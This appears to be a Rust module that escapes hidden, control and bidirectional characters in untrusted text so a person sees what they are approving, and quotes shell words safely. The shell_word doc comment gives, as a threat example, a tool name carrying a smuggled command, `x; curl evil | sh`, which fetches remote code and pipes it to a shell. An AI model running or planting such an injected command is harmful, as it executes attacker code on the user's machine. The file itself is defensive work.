//! Text from outside, made safe to show to a person.
//!
//! Attack: a description or an argument holding escape sequences, bidirectional
//! controls or invisible letters can rewrite the terminal or the question a
//! person is asked to approve. Here such characters become visible instead.

use std::fmt::Write as _;

/// Marks on one letter that are shown as they are. No alphabet needs more; hundreds
/// of them paint over the lines above.
const MARKS_MAX: usize = 3;
/// Spaces in a row that are shown as they are.
const SPACES_MAX: usize = 3;
/// From here up a cut says how much is missing; below, the count would take more
/// room than it describes.
const COUNTED_CHARS_MIN: usize = 32;

/// Whether a character has no business on a terminal line.
#[must_use]
pub fn is_hidden(character: char) -> bool {
    character.is_control()
        || matches!(character,
            '\u{00ad}' | '\u{034f}' | '\u{061c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fdd0}'..='\u{fdef}'
            | '\u{fe00}'..='\u{fe0f}' | '\u{feff}'
            | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}' | '\u{fffe}' | '\u{ffff}'
            | '\u{13430}'..='\u{1345f}' | '\u{1bca0}'..='\u{1bca3}'
            | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
}

/// Whether it is drawn onto the letter before it, in whatever script. The standard
/// library knows, and writes such a character as an escape; so it does with what has no
/// glyph of its own, of which a pile is no better.
fn is_mark(character: char) -> bool {
    !character.is_ascii() && !character.is_whitespace() && character.escape_debug().len() > 1
}

/// The text on one line: hidden characters, and marks piled on one letter, written as
/// `\u{..}`, a tab as a space.
#[must_use]
pub fn one_line(text: &str) -> String {
    visible(text, ' ')
}

/// [`one_line`] for a line of a patch: a tab stays one, because it is part of what changed.
#[must_use]
pub fn patch_line(text: &str) -> String {
    visible(text, '\t')
}

fn visible(text: &str, tab: char) -> String {
    let mut shown = String::with_capacity(text.len());
    let mut marks = 0;
    for character in text.chars() {
        marks = if is_mark(character) { marks + 1 } else { 0 };
        match character {
            '\t' => shown.push(tab),
            '\n' => shown.push_str("\\n"),
            '\r' => shown.push_str("\\r"),
            hidden if is_hidden(hidden) || marks > MARKS_MAX => {
                let _ = write!(shown, "\\u{{{:x}}}", u32::from(hidden));
            }
            plain => shown.push(plain),
        }
    }
    shown
}

/// JSON text with every invisible character, and marks piled on one letter, as
/// `\uXXXX`: the same value to a parser, and nothing in it for a terminal. The
/// line ends of pretty JSON stay.
#[must_use]
pub fn json_line(json: &str) -> String {
    let mut shown = String::with_capacity(json.len());
    let mut marks = 0;
    for character in json.chars() {
        marks = if is_mark(character) { marks + 1 } else { 0 };
        if (is_hidden(character) && character != '\n') || marks > MARKS_MAX {
            for unit in character.encode_utf16(&mut [0; 2]) {
                let _ = write!(shown, "\\u{unit:04x}");
            }
        } else {
            shown.push(character);
        }
    }
    shown
}

/// Long runs of spaces as their number, `\u{20 ×9}`, so that nothing is pushed out of
/// sight by them. In JSON no other text reads so: its backslashes are doubled.
#[must_use]
pub fn folded(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find(' ') {
        let (before, run) = rest.split_at_checked(start).unwrap_or((rest, ""));
        let after = run.trim_start_matches(' ');
        let spaces = run.len() - after.len();
        shown.push_str(before);
        if spaces > SPACES_MAX {
            let _ = write!(shown, "\\u{{20 ×{spaces}}}");
        } else {
            shown.extend(std::iter::repeat_n(' ', spaces));
        }
        rest = after;
    }
    shown.push_str(rest);
    shown
}

/// [`one_line`], cut in the middle to at most `chars_max` characters, saying how
/// many are missing where there is room to. The end is kept: that is where the
/// dangerous part hides. More is hidden than the words about it take.
#[must_use]
pub fn elided(text: &str, chars_max: usize) -> String {
    let shown = one_line(text);
    let count = shown.chars().count();
    if count <= chars_max {
        return shown;
    }
    // The count in the words depends on how long they are. They never get shorter by
    // a larger one, so this ends: a number has at most twenty digits.
    let mut words = "…".to_owned();
    if chars_max >= COUNTED_CHARS_MIN {
        loop {
            let kept = chars_max.saturating_sub(words.chars().count());
            let next = format!(" …{} more… ", count - kept);
            if next.chars().count() == words.chars().count() {
                words = next;
                break;
            }
            words = next;
        }
    }
    let kept = chars_max.saturating_sub(words.chars().count());
    let head: String = shown.chars().take(kept - kept / 2).collect();
    let tail: String = shown.chars().skip(count - kept / 2).collect();
    format!("{head}{words}{tail}")
}

/// A word of a command as a shell takes it: quoted, unless it is plain. Hidden characters
/// are made visible first, so that what is read is what is run.
///
/// Attack: a tool is called `x; curl evil | sh`, and a message names a command for it that a
/// person copies.
#[must_use]
pub fn shell_word(word: &str) -> String {
    let shown = one_line(word);
    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "_-./:=@%+,".contains(letter);
    match !shown.is_empty() && shown.chars().all(is_plain) {
        true => shown,
        false => format!("'{}'", shown.replace('\'', r"'\''")),
    }
}

/// [`shell_word`] for an argument without an option before it: one that looks like an option
/// stands behind `--`.
#[must_use]
pub fn shell_argument(word: &str) -> String {
    let quoted = shell_word(word);
    match word.starts_with('-') {
        true => format!("-- {quoted}"),
        false => quoted,
    }
}

/// `1 host`, `2 hosts`.
#[must_use]
pub fn count(number: usize, noun: &str) -> String {
    let plural = if number == 1 { "" } else { "s" };
    format!("{number} {noun}{plural}")
}

/// The difference between two texts as a patch.
pub mod diff;
/// Escapes in JSON that are half a character.
pub mod surrogate;
#[cfg(test)]
mod tests;
